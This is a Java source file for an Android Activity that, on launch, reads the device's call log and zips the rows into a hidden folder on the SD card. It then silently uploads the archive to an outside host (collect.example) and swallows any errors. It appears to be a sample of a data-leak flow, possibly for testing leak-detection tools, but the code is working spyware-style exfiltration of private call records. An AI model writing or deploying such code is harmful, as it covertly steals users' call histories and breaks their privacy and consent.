package org.example.flows.store;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CallLog;
import java.io.BufferedInputStream;
import java.io.DataOutputStream;
import java.io.File;
import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Rows are packed into an archive on the card, which is then sent in pieces. */
public class Zipped extends Activity {
    private static final File ARCHIVE = new File("/sdcard/.pack/calls.zip");

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            pack();
            upload(ARCHIVE.getPath());
        } catch (IOException ignored) {
            finish();
        }
    }

    private void pack() throws IOException {
        ZipOutputStream zip = new ZipOutputStream(new FileOutputStream(ARCHIVE));
        zip.putNextEntry(new ZipEntry("calls.csv"));
        Cursor rows = getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, null);
        while (rows.moveToNext()) {
            zip.write(rows.getString(1).getBytes());
        }
        zip.closeEntry();
        zip.close();
    }

    private static void upload(String path) throws IOException {
        BufferedInputStream in = new BufferedInputStream(new FileInputStream(path));
        HttpURLConnection connection =
                (HttpURLConnection) new URL("http://collect.example/zip").openConnection();
        connection.setDoOutput(true);
        DataOutputStream out = new DataOutputStream(connection.getOutputStream());
        byte[] piece = new byte[1024];
        int count;
        while ((count = in.read(piece)) > 0) {
            out.write(piece, 0, count);
        }
        out.close();
        in.close();
    }
}
